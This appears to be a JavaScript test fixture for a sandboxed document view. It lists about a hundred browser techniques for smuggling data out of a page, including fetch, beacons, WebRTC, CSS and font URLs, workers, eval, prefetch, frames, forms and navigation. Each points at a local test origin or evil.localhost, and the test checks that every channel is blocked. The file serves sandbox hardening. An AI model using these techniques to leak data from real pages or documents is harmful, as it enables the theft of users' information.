/**
 * Every known way to send data out of a document, by the id of its attack. `tests/attacks/catalogue.py` describes
 * each. A test puts this into a View and calls `attempt(id, place)` for each: nothing of it may arrive.
 *
 * What an attempt leaves behind is its signs: what it returned or threw, and which directive of the policy was
 * violated.
 */

/** @type {Record<string, string[]>} */
const signs = {};
/** @type {Record<string, any>} Where to go: an origin, ports for what has no path, and a name to look up. */
let place = {};
let current = "";

const to = (id) => `${place.origin}/${id}`;
const note = (id, sign) => (signs[id] ??= []).push(sign);
const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
  const path = URL.canParse(blockedURI) ? new URL(blockedURI).pathname.slice(1).split("/")[0] : "";
  note(path in attempts ? path : current, effectiveDirective);
});

/** Put an element into the page, with attributes and, perhaps, content. */
const put = (tag, attributes = {}, content = "") => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.textContent = content;
  document.body.append(element);
  return element;
};
const link = (rel, id, more = {}) => put("link", { rel, href: to(id), ...more });
const style = (css) => put("style", {}, css);
const click = (tag, attributes) => put(tag, attributes, "x").click();
const markup = (html) => put("div").insertAdjacentHTML("beforeend", html);
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const fetcher = (id) => `fetch(${JSON.stringify(to(id))}, {mode: "no-cors"}).catch(() => {});`;
const page = (id) => `<script>${fetcher(id)}</` + "script>";

/** What a worker does is not seen from here; give it the time to do it. Its error may come later than that. */
const work = async (make) => {
  const id = current;
  const worker = make();
  worker.onerror = () => note(id, "WorkerError");
  await pause(300);
};

const form = (attributes, button = {}) => {
  const element = put("form", attributes);
  const input = document.createElement("input");
  Object.assign(input, { name: "secret", value: "1" });
  const submit = document.createElement("button");
  for (const [name, value] of Object.entries(button)) submit.setAttribute(name, value);
  element.append(input, submit);
  submit.click();
};

const peer = async (server) => {
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
  await pause(500);
};

/** @type {Record<string, () => unknown>} */
const attempts = {
  // Connections
  "out-fetch": () => fetch(to("out-fetch"), { mode: "no-cors" }),
  "out-fetch-keepalive": () =>
    fetch(to("out-fetch-keepalive"), { method: "POST", body: "secret", mode: "no-cors", keepalive: true }),
  "out-fetch-later": () => globalThis.fetchLater(to("out-fetch-later"), { activateAfter: 0 }).activated,
  "out-xhr": () =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onerror = () => fail(new Error("NetworkError"));
      request.onload = done;
      request.open("GET", to("out-xhr"));
      request.send();
    }),
  "out-websocket": () =>
    new Promise((done, fail) => {
      const socket = new WebSocket(to("out-websocket").replace("http", "ws"));
      socket.onclose = done;
      socket.onerror = () => fail(new Error("NetworkError"));
    }),
  "out-websocket-stream": () => new globalThis.WebSocketStream(to("out-websocket-stream").replace("http", "ws")).opened,
  "out-eventsource": () => void new EventSource(to("out-eventsource")),
  "out-beacon": () => navigator.sendBeacon(to("out-beacon"), "secret"),
  "out-ping": () => click("a", { href: "#here", ping: to("out-ping") }),
  "out-webtransport": () => new WebTransport(`https://127.0.0.1:${place.quic}/out-webtransport`).ready,
  "out-webrtc-stun": () => peer({ urls: `stun:127.0.0.1:${place.stun}` }),
  "out-webrtc-turn": () =>
    peer({ urls: `turn:127.0.0.1:${place.turn}?transport=tcp`, username: "secret", credential: "secret" }),
  "out-fedcm": () =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: to("out-fedcm"), clientId: "1", nonce: "1" }] },
      mediation: "required",
    }),
  "out-report-uri": () => {
    put("meta", {
      "http-equiv": "Content-Security-Policy",
      content: `img-src https://nobody.invalid; report-uri ${to("out-report-uri")}`,
    });
    put("img", { src: "data:image/png,x" });
  },

  // What a page is made of
  "out-image": () => put("img", { src: to("out-image") }),
  "out-srcset": () => put("img", { srcset: `${to("out-srcset")} 1x` }),
  "out-input-image": () => put("input", { type: "image", src: to("out-input-image") }),
  "out-svg-image": () => markup(`<svg><image href="${to("out-svg-image")}"/></svg>`),
  "out-background": () => put("table", { background: to("out-background") }),
  "out-css-url": () => put("p", { style: `background: url(${to("out-css-url")})` }, "x"),
  "out-border-image": () =>
    put("p", { style: `border: 9px solid; border-image: url(${to("out-border-image")}) 1` }, "x"),
  "out-css-mask": () => put("p", { style: `mask: url(${to("out-css-mask")})` }, "x"),
  "out-css-import": () => style(`@import url(${to("out-css-import")});`),
  "out-stylesheet": () => link("stylesheet", "out-stylesheet"),
  "out-font-face": () => {
    style(`@font-face { font-family: stolen; src: url(${to("out-font-face")}) }`);
    put("p", { style: "font-family: stolen" }, "secret");
    document.body.offsetWidth;
  },
  "out-font-api": () => new FontFace("x", `url(${to("out-font-api")})`).load(),
  "out-audio": () => put("audio", { src: to("out-audio"), preload: "auto" }),
  "out-video": () => put("video", { src: to("out-video"), preload: "auto" }),
  "out-poster": () => put("video", { poster: to("out-poster") }),
  "out-source": () => markup(`<video preload="auto"><source src="${to("out-source")}"></video>`),
  "out-track": () => {
    markup(`<video crossorigin="anonymous"><track default src="${to("out-track")}"></video>`);
    [...document.querySelectorAll("video")].at(-1).textTracks[0].mode = "showing";
  },
  "out-object": () => put("object", { data: to("out-object") }),
  "out-embed": () => put("embed", { src: to("out-embed") }),
  "out-base": async () => {
    document.head.append(Object.assign(document.createElement("base"), { href: to("out-base/") }));
    const { src } = put("img", { src: "picture" });
    await pause(50);
    document.querySelector("base").remove();
    return src;
  },

  // Code
  "out-script": () => put("script", { src: to("out-script") }),
  "out-module": () => put("script", { src: to("out-module"), type: "module" }),
  "out-import": () => import(to("out-import")),
  "out-worker": () => work(() => new Worker(to("out-worker"))),
  "out-shared-worker": () => work(() => new SharedWorker(to("out-shared-worker"))),
  "out-blob-worker": () => work(() => new Worker(blob(fetcher("out-blob-worker")))),
  "out-data-worker": () =>
    work(() => new Worker(`data:text/javascript,${encodeURIComponent(fetcher("out-data-worker"))}`)),
  "out-import-scripts": () =>
    work(() => new Worker(blob(`importScripts(${JSON.stringify(to("out-import-scripts"))})`))),
  "out-blob-shared-worker": () => work(() => new SharedWorker(blob(fetcher("out-blob-shared-worker")))),
  "out-service-worker": () => navigator.serviceWorker.register(to("out-service-worker")),
  "out-worklet": () => new AudioContext().audioWorklet.addModule(to("out-worklet")),
  "out-eval": () => (0, eval)(fetcher("out-eval")),

  // Looking ahead
  "out-prefetch": () => link("prefetch", "out-prefetch"),
  "out-preload": () => link("preload", "out-preload", { as: "image" }),
  "out-preload-fetch": () => link("preload", "out-preload-fetch", { as: "fetch", crossorigin: "" }),
  "out-modulepreload": () => link("modulepreload", "out-modulepreload"),
  "out-preconnect": () => put("link", { rel: "preconnect", href: `http://evil.localhost:${place.preconnect}` }),
  "out-dns-prefetch": () => put("link", { rel: "dns-prefetch", href: `http://${place.dns}` }),
  "out-speculation": () =>
    put(
      "script",
      { type: "speculationrules" },
      JSON.stringify({
        prefetch: [{ urls: [to("out-speculation")], eagerness: "immediate" }],
        prerender: [{ urls: [to("out-speculation")], eagerness: "immediate" }],
      }),
    ),

  // Frames inside
  "out-nested-webrtc": () =>
    put("iframe", {
      srcdoc: `<script>
        const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${place.nestedStun}" }] });
        connection.createDataChannel("x");
        connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      </${"script"}>`,
    }),
  "out-nested-preconnect": () =>
    put("iframe", { srcdoc: `<link rel="preconnect" href="http://evil.localhost:${place.nestedPreconnect}">` }),
  "out-frame": () => put("iframe", { src: to("out-frame") }),
  "out-frame-srcdoc": () => put("iframe", { srcdoc: page("out-frame-srcdoc") }),
  "out-frame-blob": () => put("iframe", { src: blob(page("out-frame-blob"), "text/html") }),
  "out-frame-data": () => put("iframe", { src: `data:text/html,${encodeURIComponent(page("out-frame-data"))}` }),
  "out-frame-javascript": () => put("iframe", { src: `javascript:${JSON.stringify(page("out-frame-javascript"))}` }),
  "out-frame-written": () => {
    const { contentDocument } = put("iframe");
    contentDocument.write(page("out-frame-written"));
    contentDocument.close();
  },
  "out-frame-moved": () => (put("iframe").contentWindow.location.href = to("out-frame-moved")),
  "out-frame-refresh": () =>
    put("iframe", { srcdoc: `<meta http-equiv="refresh" content="0; url=${to("out-frame-refresh")}">` }),
  "out-frame-target": () => {
    put("iframe", { name: "inner" });
    click("a", { href: to("out-frame-target"), target: "inner" });
  },
  "out-frame-borrowed-fetch": () =>
    put("iframe").contentWindow.fetch(to("out-frame-borrowed-fetch"), { mode: "no-cors" }),

  // Leaving, and opening another window
  "go-location": () => void (location.href = to("go-location")),
  "go-assign": () => location.assign(to("go-assign")),
  "go-replace": () => location.replace(to("go-replace")),
  "go-navigation": () => void globalThis.navigation.navigate(to("go-navigation")),
  "go-refresh": () => put("meta", { "http-equiv": "refresh", content: `0; url=${to("go-refresh")}` }),
  "go-link": () => click("a", { href: to("go-link") }),
  "go-link-area": () => click("area", { href: to("go-link-area") }),
  "go-form-get": () => form({ action: to("go-form-get") }),
  "go-form-post": () => form({ action: to("go-form-post"), method: "post" }),
  "go-form-action": () => form({}, { formaction: to("go-form-action"), formmethod: "post" }),
  "go-form-submit": () => put("form", { action: to("go-form-submit"), method: "post" }).submit(),
  "go-form-dialog": () => form({ action: to("go-form-dialog"), method: "dialog" }, { formmethod: "get" }),
  "go-open-self": () => String(window.open(to("go-open-self"), "_self")),
  "go-javascript": () => void (location.href = `javascript:${JSON.stringify(page("go-javascript"))}`),
  "go-data": () => void (location.href = `data:text/html,${encodeURIComponent(page("go-data"))}`),
  "go-blob": () => void (location.href = blob(page("go-blob"), "text/html")),
  "go-write": () => {
    document.open();
    document.write(page("go-write"));
    document.close();
  },
  "go-top": () => void (window.top.location.href = to("go-top")),
  "go-top-replace": () => window.top.location.replace(to("go-top-replace")),
  "go-parent": () => void (parent.location.href = to("go-parent")),
  "go-link-top": () => click("a", { href: to("go-link-top"), target: "_top" }),
  "go-link-parent": () => click("a", { href: to("go-link-parent"), target: "_parent" }),
  "go-link-unfenced": () => click("a", { href: to("go-link-unfenced"), target: "_unfencedTop" }),
  "go-link-blank": () => click("a", { href: to("go-link-blank"), target: "_blank" }),
  "go-link-noopener": () => click("a", { href: to("go-link-noopener"), target: "_blank", rel: "noopener" }),
  "go-link-named": () => click("a", { href: to("go-link-named"), target: "another" }),
  "go-link-download": () => click("a", { href: to("go-link-download"), download: "x" }),
  "go-form-top": () => form({ action: to("go-form-top"), target: "_top" }),
  "go-form-parent": () => form({ action: to("go-form-parent"), target: "_parent", method: "post" }),
  "go-form-blank": () => form({ action: to("go-form-blank"), target: "_blank", method: "post" }),
  "go-open": () => String(window.open(to("go-open"))),
  "go-open-noopener": () => String(window.open(to("go-open-noopener"), "_blank", "noopener")),
  "go-open-top": () => String(window.open(to("go-open-top"), "_top")),
  "go-open-parent": () => String(window.open(to("go-open-parent"), "_parent")),
};

/** Make one attempt, and wait until it has an outcome or a timeout has passed. */
const attempt = async (id, where) => {
  place = where;
  current = id;
  const tried = async () => attempts[id]();
  // On a busy machine an error comes late. It is a sign all the same.
  const over = tried().then(
    (result) => note(id, `returned ${result}`),
    (error) => note(id, `${error.name}: ${error.message}`),
  );
  await Promise.race([over, pause(600).then(() => note(id, "returned undefined"))]);
  // What becomes of a frame is decided elsewhere.
  await pause(id.includes("frame") ? 80 : 10);
};
